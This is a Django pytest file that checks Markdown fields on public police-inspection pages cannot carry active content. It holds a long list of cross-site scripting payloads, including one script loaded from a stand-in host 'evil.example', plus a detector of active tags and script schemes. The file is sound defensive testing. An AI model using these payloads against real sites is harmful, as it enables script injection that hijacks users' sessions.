"""Authored Markdown cannot carry a script onto a public page, whatever is typed or pasted into it.

Each payload below is put into every authored Markdown field at once (the year's notes, the assessment's four
written sections, the pillar judgment's summary and findings, the question judgment's summary, the reports'
summaries, and the consultations' proposal, privacy notice and outcome), and every public page showing one of
those fields is rendered. The page is read with the standard library's HTML parser, as a browser would tokenise
it, and must hold nothing active that the same page with plain text in those fields does not hold already: no
script, style, frame, object, embed or SVG element, no event-handler or style attribute, and no address in
javascript:, vbscript: or data: (after the entity decoding and whitespace stripping browsers do).

Each field starts with a sentence of its own, so a test also proves the field really is on the page it reads.
``peel.markdown.render_markdown`` is also checked directly, payload by payload, with no page around it.
"""

import datetime
import re
from collections import Counter
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
from django.utils import timezone

from consultations.models import Consultation
from forces.models import Force
from inspections.models import Assessment, InspectionYear, PillarJudgment, QuestionJudgment, Report
from peel.markdown import ALLOWED_TAGS, render_markdown
from tests.consultations.factories import make_consultation
from tests.factories import (
    make_assessment,
    make_judgment,
    make_pillar,
    make_question,
    make_question_judgment,
    make_region,
    make_report,
    make_year,
)

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

PAYLOADS = {
    # Script elements, however spelled
    "script": "<script>alert(1)</script>",
    "script-uppercase-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-in-markdown-emphasis": "**<script>alert(1)</script>**",
    "script-in-list": "- one\n- <script>alert(1)</script>",
    "script-in-blockquote": "> <script>alert(1)</script>",
    "script-in-heading": "### <script>alert(1)</script>",
    "raw-html-block": "<div>\n<script>alert(1)</script>\n</div>",
    "comment": "<!--<script>alert(1)</script>-->",
    "comment-breakout": "<!-- --!><script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "code-span": "`<script>alert(1)</script>`",
    "code-block": "    <script>alert(1)</script>",
    "fenced-looking-block": "```\n<script>alert(1)</script>\n```",
    # Entities that decode to markup
    "named-entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric-entities": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "hex-entities": "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "double-encoded": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    # Event handlers
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-unclosed": "<img src=x onerror=alert(1)",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "unknown-tag-handler": "<xss onafterscriptexecute=alert(1)>x</xss>",
    "allowed-tag-onclick": '<a href="https://example.org/" onclick="alert(1)">x</a>',
    "allowed-tag-unquoted-handler": "<a href=https://example.org/ onmouseover=alert(1)>x</a>",
    "abbr-handler": '<abbr title="x" onmouseover="alert(1)">x</abbr>',
    "abbr-title-breakout": '<abbr title="&quot; onmouseover=&quot;alert(1)">x</abbr>',
    "p-handler-slash": "<p/onclick=alert(1)>x</p>",
    # Frames, objects and other active elements
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object-data": f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "form-action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">go</button>',
    "base-href": '<base href="javascript:alert(1)//">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link-stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    # Styles
    "style-element": '<style>body{background:url("javascript:alert(1)")}</style>',
    "style-expression": '<div style="width: expression(alert(1))">x</div>',
    "style-url": '<p style="background:url(javascript:alert(1))">x</p>',
    # javascript:, vbscript: and data: addresses in raw HTML
    "href-javascript": '<a href="javascript:alert(1)">x</a>',
    "href-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "href-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "href-newline-entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "href-carriage-return-entity": '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    "href-literal-tab": '<a href="jav\tascript:alert(1)">x</a>',
    "href-leading-space": '<a href="  javascript:alert(1)">x</a>',
    "href-leading-control": '<a href="&#x01;javascript:alert(1)">x</a>',
    "href-decimal-entities": ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    "href-hex-entity-j": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "href-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "href-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "href-data-html": f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>',
    "href-unclosed": '<a href="javascript:alert(1)"',
    "href-unclosed-element": '<a href="javascript:alert(1)">x',
    "img-javascript": '<img src="javascript:alert(1)">',
    "img-data": f'<img src="data:text/html;base64,{B64_SCRIPT}">',
    # Markdown's own links and images
    "md-link-javascript": "[x](javascript:alert(1))",
    "md-link-uppercase-with-title": '[x](JAVASCRIPT:alert(1) "title")',
    "md-link-angle-brackets": "[x](<javascript:alert(1)>)",
    "md-link-entity-colon": "[x](javascript&#58;alert(1))",
    "md-link-tab-entity": "[x](jav&#x09;ascript:alert(1))",
    "md-link-vbscript": "[x](vbscript:msgbox(1))",
    "md-link-data": f"[x](data:text/html;base64,{B64_SCRIPT})",
    "md-link-title-breakout": '[x](https://example.org/ "a&quot; onmouseover=&quot;alert(1)")',
    "md-link-quote-in-url": '[x](https://example.org/"onmouseover="alert(1))',
    "md-reference-link": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "md-image-javascript": "![x](javascript:alert(1))",
    "md-image-data": f"![x](data:text/html;base64,{B64_SCRIPT})",
    "md-image-onerror-title": '![x](https://example.org/x.png "x\\" onerror=\\"alert(1)")',
    "md-autolink-javascript": "<javascript:alert(1)>",
    "md-autolink-quote": '<https://example.org/" onmouseover="alert(1)>',
    "md-autolink-email-script": "<script@example.org>",
    "md-link-with-raw-html-text": "[<img src=x onerror=alert(1)>](https://example.org/)",
    "md-nested-link": "[[x](javascript:alert(1))](https://example.org/)",
}

# -- Reading a page as a browser tokenises it ---------------------------------------------------------------------

ACTIVE_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "link",
    "meta",
    "base",
    "form",
    "button",
    "input",
    "textarea",
    "img",
    "video",
    "audio",
    "source",
    "template",
    "noscript",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "background",
    "poster",
    "lowsrc",
    "dynsrc",
    "cite",
    "longdesc",
    "codebase",
    "ping",
    "content",  # <meta http-equiv="refresh" content="0;url=...">
}
BAD_SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:")
C0_AND_SPACE = "".join(chr(code) for code in range(0x21))


def dangerous_address(value):
    """Whether an address runs something, read as a browser's URL parser reads it (WHATWG URL): entities decoded
    (the HTML parser did that), leading and trailing control characters and spaces stripped, and tabs and
    newlines dropped wherever they are. A space or other control character inside the scheme is not dropped:
    "jav ascript:" is a relative address, so it is not counted."""
    squeezed = re.sub(r"[\t\n\r]", "", (value or "").strip(C0_AND_SPACE)).lower()
    squeezed = squeezed.split("url=", 1)[-1] if squeezed[:1].isdigit() else squeezed  # a refresh's target
    return squeezed.startswith(BAD_SCHEMES)


class ActiveContent(HTMLParser):
    """Everything active in a page: elements that run or load things, event handlers, style attributes and
    script addresses; and the page's text, outside scripts and styles."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found = Counter()
        self.text = []
        self._raw = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag in ACTIVE_TAGS:
            self.found[("element", tag)] += 1
        for name, value in attrs:
            if name.startswith("on"):
                self.found[("event handler", tag, name)] += 1
            elif name in {"style", "srcdoc", "http-equiv"}:
                self.found[(name, tag)] += 1
            elif name in URL_ATTRIBUTES and dangerous_address(value):
                self.found[("address", tag, name, value)] += 1
        if tag in {"script", "style"}:
            self._raw = tag

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self._raw = None

    def handle_endtag(self, tag):
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data):
        if self._raw is None:
            self.text.append(data)

    @property
    def page_text(self):
        return re.sub(r"\s+", " ", " ".join(self.text))


# -- The world: every Markdown field on its public pages ----------------------------------------------------------

FIELDS = {
    # field: (model, the world's attribute holding the object, the field's name)
    "year notes": (InspectionYear, "year", "notes"),
    "observations": (Assessment, "assessment", "observations"),
    "force in context": (Assessment, "assessment", "force_in_context"),
    "working arrangements": (Assessment, "assessment", "working_arrangements"),
    "looking ahead": (Assessment, "assessment", "looking_ahead"),
    "pillar summary": (PillarJudgment, "judgment", "summary"),
    "pillar findings": (PillarJudgment, "judgment", "body"),
    "question summary": (QuestionJudgment, "question_judgment", "summary"),
    "report summary": (Report, "report", "summary"),
    "report of no year summary": (Report, "yearless_report", "summary"),
    "consultation proposal": (Consultation, "open_consultation", "body"),
    "consultation privacy notice": (Consultation, "open_consultation", "privacy_notice"),
    "closed consultation proposal": (Consultation, "closed_consultation", "body"),
    "consultation outcome": (Consultation, "closed_consultation", "outcome"),
}

# The public pages that render Markdown, and the fields each shows.
PAGES = {
    "year page": ("/peel/xss-year/", ["year notes"]),
    "assessment page": (
        "/forces/xss-force/xss-year/",
        [
            "observations",
            "force in context",
            "working arrangements",
            "looking ahead",
            "pillar summary",
            "pillar findings",
            "report summary",
        ],
    ),
    "pillar page": (
        "/forces/xss-force/xss-year/xss-pillar/",
        ["pillar summary", "pillar findings", "question summary"],
    ),
    "force page": ("/forces/xss-force/", ["report summary", "report of no year summary"]),
    "open consultation": ("/consultations/xss-open/", ["consultation proposal"]),
    "consultation response form": ("/consultations/xss-open/respond/", ["consultation privacy notice"]),
    "closed consultation with its outcome": (
        "/consultations/xss-closed/",
        ["closed consultation proposal", "consultation outcome"],
    ),
}


def sentinel(field):
    """A sentence that opens the field, so the page can be seen to show it."""
    return f"Sentinel {field.replace(' ', '-')} here."


def text_for(field, payload):
    return f"{sentinel(field)}\n\n{payload}"


def make_markdown_world():
    """One published force, year, pillar, question, assessment, judgments and reports, and an open and a closed
    consultation (its outcome published), each Markdown field holding plain text."""
    region = make_region(name="Xss region", slug="xss-region")
    force = Force.objects.create(name="Xss Police", short_name="Xss", slug="xss-force", region=region)
    year = make_year(slug="xss-year", title="PEEL Xss", label="Xss", first_year=2091)
    pillar = make_pillar(year=year, slug="xss-pillar", name="Xss pillar")
    question = make_question(pillar=pillar, text="Is it safe?")
    assessment = make_assessment(force=force, year=year)
    judgment = make_judgment(assessment=assessment, pillar=pillar, grade="good")
    now = timezone.now()
    world = SimpleNamespace(
        year=year,
        assessment=assessment,
        judgment=judgment,
        question_judgment=make_question_judgment(pillar_judgment=judgment, question=question),
        report=make_report(force=force, year=year, title="Xss report"),
        yearless_report=make_report(force=force, title="Xss report of no year"),
        open_consultation=make_consultation(slug="xss-open", title="Xss open consultation"),
        closed_consultation=make_consultation(
            slug="xss-closed",
            title="Xss closed consultation",
            opens_at=now - datetime.timedelta(days=60),
            closes_at=now - datetime.timedelta(days=30),
            outcome="Decided.",
            outcome_published_on=timezone.localdate(now) - datetime.timedelta(days=1),
        ),
    )
    fill(world, "Plain words.")
    return world


def fill(world, payload):
    """Every Markdown field: its sentinel, then ``payload``."""
    for field, (model, attribute, name) in FIELDS.items():
        model.objects.filter(pk=getattr(world, attribute).pk).update(**{name: text_for(field, payload)})


def read(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.content[:500]
    return ActiveContent(response.content.decode())


_plain = {}


def plain_page(client, url):
    """What a page holds with plain words in every field (its own scripts, its start button's SVG), read once:
    the world is the same in every test."""
    if url not in _plain:
        _plain[url] = read(client, url).found
    return _plain[url]


# -- The tests ----------------------------------------------------------------------------------------------------

CAUGHT = {
    "script": "<script>alert(1)</script>",
    "handler": '<p onclick="alert(1)">x</p>',
    "svg": "<svg></svg>",
    "iframe": "<iframe></iframe>",
    "object": "<object></object>",
    "embed": "<embed>",
    "style attribute": '<p style="width: expression(alert(1))">x</p>',
    "javascript href": '<a href="javascript:alert(1)">x</a>',
    "tab in the scheme": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "leading space": '<a href=" JavaScript:alert(1)">x</a>',
    "vbscript href": '<a href="vbscript:msgbox(1)">x</a>',
    "data src": f'<img src="data:text/html;base64,{B64_SCRIPT}">',
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
}


@pytest.mark.parametrize("html", CAUGHT.values(), ids=CAUGHT.keys())
def test_the_reader_catches_active_content(html):
    """The checks below are only as good as the reader: it must see each of these."""
    assert ActiveContent(html).found


def test_the_reader_leaves_plain_links_alone():
    assert not ActiveContent(
        '<p class="govuk-body"><a href="https://example.org/">x</a> <abbr title="y">z</abbr></p>'
    ).found


def test_every_markdown_field_is_on_a_page():
    """Every field whose help text says Markdown is filled, and every one is read on some page."""
    models = {model for model, _, _ in FIELDS.values()}
    markdown_fields = {
        (model, field.name)
        for model in models
        for field in model._meta.get_fields()
        if "markdown" in str(getattr(field, "help_text", "")).lower()
    }
    filled = {(model, name) for model, _, name in FIELDS.values()}
    assert markdown_fields == filled
    shown = {field for _, fields in PAGES.values() for field in fields}
    assert shown == set(FIELDS)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_render_markdown_leaves_a_payload_inert(payload):
    rendered = str(render_markdown(payload))
    page = ActiveContent(rendered)
    assert dict(page.found) == {}, rendered
    tags = {match.lower() for match in re.findall(r"<([a-zA-Z][a-zA-Z0-9:-]*)", rendered)}
    assert tags <= ALLOWED_TAGS, rendered


@pytest.mark.django_db
@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_payload_in_every_markdown_field_is_inert_on_every_page(client, payload, page):
    url, fields = PAGES[page]
    world = make_markdown_world()
    plain = plain_page(client, url)
    fill(world, payload)
    attacked = read(client, url)
    for field in fields:
        assert sentinel(field) in attacked.page_text, f"{field} is not on the {page}"
    added = attacked.found - plain
    assert dict(added) == {}, f"The payload added active content to the {page}"
